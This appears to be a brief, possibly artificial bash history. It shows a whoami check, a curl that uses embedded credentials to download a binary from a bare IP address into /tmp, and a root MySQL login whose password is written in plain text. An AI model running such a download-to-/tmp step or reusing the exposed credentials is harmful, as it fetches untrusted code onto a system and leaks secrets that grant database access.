#1795854061
whoami
#1795854070
curl -u nurul:RAHSIA1234 http://203.0.113.9/muat.bin -o /tmp/m
ls -la
#1795854080
export DB_PASSWORD=RAHSIA1234 && mysql -uroot -pRAHSIA1234 kes
